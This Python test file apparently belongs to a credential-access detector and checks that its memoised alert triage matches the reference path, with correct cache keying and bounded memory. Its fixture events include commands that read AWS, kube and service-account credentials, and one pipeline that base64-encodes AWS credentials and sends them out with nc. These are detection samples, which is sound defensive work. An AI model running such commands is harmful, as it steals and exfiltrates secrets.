"""The memoised triage writes exactly the block the reference path writes, input after input."""

from __future__ import annotations

import copy
import dataclasses
import gzip
import json
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from credwatch.engine.scan import Scanner, compile_rules
from credwatch.rules.loader import default_rule
from credwatch.rules.model import Rule
from credwatch.sources.diagnostics import Diagnostics
from credwatch.sources.record import Record
from credwatch.timemath import DATETIME_MAX_MS, DATETIME_MIN_MS, format_ms
from credwatch.triage import memo, verdict
from credwatch.triage.enrich import PREFIX, enrich_alert
from tests.triage.helpers import auditd, defend, example

CORPUS = Path(__file__).resolve().parents[1] / "alerts" / "golden" / "corpus.ndjson.gz"


def _hunt_rule() -> Rule:
    return dataclasses.replace(default_rule(), query="event.action:exec or event.type:start",
                               rule_id="hunt")


def _alerts(rules: list[Rule], events: list[dict[str, Any]]) -> list[tuple[dict[str, Any],
                                                                           dict[str, Any]]]:
    """Alert documents without triage, and their events."""
    scanner = Scanner(compile_rules(rules), diagnostics=Diagnostics(), triage=False)
    out = []
    for i, event in enumerate(events):
        for alert in scanner.alerts_for(Record(event, source="t", line=i)):
            out.append((dict(alert), event))
    return out


def _block(alert: dict[str, Any]) -> bytes:
    """The triage keys in document order, as JSON (order and types are part of the result)."""
    return json.dumps([(k, v) for k, v in alert.items() if k.startswith(PREFIX)]).encode()


def _assert_same(pairs: list[tuple[dict[str, Any], dict[str, Any]]],
                 benign: dict[str, str] | None = None) -> int:
    """Each alert enriched by both paths; returns how many alerts the memo path kept."""
    kept = 0
    for alert, event in pairs:
        want = enrich_alert(copy.deepcopy(alert), event, benign=benign, memo=False)
        fast = copy.deepcopy(alert)
        answered = memo.enrich_memoized(fast, event, benign)
        got = enrich_alert(copy.deepcopy(alert), event, benign=benign)
        assert _block(got) == _block(want), event
        assert _block(fast) == (_block(want) if answered else b"[]"), event
        kept += answered
    return kept


def _corpus() -> list[dict[str, Any]]:
    with gzip.open(CORPUS, "rb") as f:
        events = [orjson.loads(line) for line in f.read().splitlines()]
    return events + example("defend.ndjson") + example("auditbeat.ndjson")


@pytest.mark.parametrize("rule", ["hunt", "seed"])
def test_memoised_blocks_equal_the_reference_on_the_golden_corpus(rule: str) -> None:
    memo.clear()
    pairs = _alerts([_hunt_rule() if rule == "hunt" else default_rule()], _corpus())
    assert len(pairs) > 50
    kept = _assert_same(pairs)
    # Most of the corpus is plain JSON: the memo path, not the fallback, answered.
    assert kept > len(pairs) // 2
    # Second pass: every piece comes from the caches now.
    assert _assert_same(pairs) == kept


def _variants() -> list[dict[str, Any]]:
    """Pairs of events that differ in one field each key must include."""
    base = defend(["cat", "/root/.aws/credentials"])
    return [
        base,
        defend(["cat", "/root/.kube/config"]),                       # command
        defend(["cat", "/root/.aws/credentials"], host="cp-master-1"),  # workload
        defend(["cat", "/root/.aws/credentials"], user__name="svc"),   # user (fills steps)
        defend(["cat", "/root/.aws/credentials"], process__parent__name="ansible"),  # benign
        defend(["cat", "/root/.aws/credentials"], process__executable="/tmp/cat"),  # scratch
        defend(["cat", "/root/.aws/credentials"], pid=77),            # per event: pid
        defend(["cat", "/root/.aws/credentials"], t=5.0),             # per event: time
        defend(["cat", "/root/.aws/credentials"], process__args_count="2"),  # "2" is not 2
        defend(["cat", "/root/.aws/credentials"], process__args_count=True),
        defend(["cat", "/root/.aws/credentials"], **{"container.image.name": "velero/velero"}),
        defend(["sh", "-c", "cat /root/.aws/credentials | base64 | nc x 1"]),
        auditd(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
        auditd(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], auid="4294967295"),
        auditd(["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], ses="9"),
    ]


def test_events_differing_in_one_keyed_field_get_their_own_triage() -> None:
    memo.clear()
    pairs = _alerts([_hunt_rule()], _variants())
    assert len(pairs) == len(_variants())
    assert _assert_same(pairs) == len(pairs)
    blocks = {_block(enrich_alert(copy.deepcopy(a), e)) for a, e in pairs}
    assert len(blocks) == len(pairs)
    # With the seed rule, the explained argument is part of the command's key too.
    assert _assert_same(_alerts([default_rule()], _variants())) > 0


def test_a_benign_table_is_part_of_the_key() -> None:
    memo.clear()
    pairs = _alerts([default_rule()], [defend(["cat", "/root/.aws/credentials"],
                                              process__parent__name="mybackup")])
    _assert_same(pairs)
    _assert_same(pairs, benign={"mybackup": "nightly backup"})
    alert, event = pairs[0]
    plain = enrich_alert(copy.deepcopy(alert), event)
    tuned = enrich_alert(copy.deepcopy(alert), event, benign={"mybackup": "nightly backup"})
    assert not plain[PREFIX + "likely_benign"]
    assert tuned[PREFIX + "likely_benign"]


def test_cached_values_are_not_shared_between_alerts() -> None:
    memo.clear()
    pairs = _alerts([default_rule()], [defend(["cat", "/root/.aws/credentials"], pid=p)
                                       for p in (1, 2)])
    first, second = (enrich_alert(copy.deepcopy(a), e) for a, e in pairs)
    for key in ("credentials", "user", "workload", "command_line", "benign_reasons", "kinds"):
        assert first[PREFIX + key] == second[PREFIX + key]
        assert first[PREFIX + key] is not second[PREFIX + key]
    first[PREFIX + "credentials"][0]["response"].append("changed")
    third = enrich_alert(copy.deepcopy(pairs[0][0]), pairs[0][1])
    assert "changed" not in third[PREFIX + "credentials"][0]["response"]


def test_events_the_memo_cannot_key_take_the_reference_path() -> None:
    memo.clear()
    odd = [defend(["cat", "/root/.aws/credentials"], process__args_count=2.0),
           defend(["cat", "/root/.aws/credentials"], process__args_count=2**70),
           {**defend(["cat", "/root/.aws/credentials"]), "user": {"name": "nested"}}]
    pairs = _alerts([default_rule()], odd)
    assert len(pairs) == len(odd)
    assert _assert_same(pairs) == 0


@settings(max_examples=2000, deadline=None)
@given(ms=st.integers(DATETIME_MIN_MS, DATETIME_MAX_MS))
def test_the_window_edges_are_written_as_format_ms_writes_them(ms: int) -> None:
    assert verdict._iso(ms) == format_ms(ms)


def test_huge_distinct_inputs_are_answered_but_not_remembered() -> None:
    memo.clear()
    events = [defend(["cat", "/root/.aws/credentials", "x" * 4000 + str(i)],
                     host=f"h{i}-" + "y" * 2000) for i in range(20)]
    pairs = _alerts([default_rule()], events)
    assert _assert_same(pairs) == len(pairs)
    # Each cache's memory is bounded by its entries times MAX_KEY_BYTES, whatever the input.
    for cache in (memo._COMMANDS, memo._WORKLOADS, memo._VERDICTS, memo._FILLED):
        assert len(cache) == 0
    assert memo.MAX_KEY_BYTES <= 4096


def test_remembered_entries_hold_their_own_size_not_orjsons_buffer() -> None:
    """Caches full of unique positives stay small: a few KB per input, as their contents weigh."""
    import gc
    import tracemalloc

    memo.clear()
    events = [defend(["cat", "/root/.aws/credentials", f"--marker={i}"]) for i in range(400)]
    pairs = _alerts([default_rule()], events)
    gc.collect()
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for alert, event in pairs:
            assert memo.enrich_memoized(copy.deepcopy(alert), event, None)
        gc.collect()
        kept = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert len(memo._COMMANDS) == len(pairs)
    # orjson's output object keeps its 4 KB working buffer: six of them per input (keys and
    # JSON values) came to ~25 KB per remembered input before they were copied to size.
    assert kept / len(pairs) < 8_000
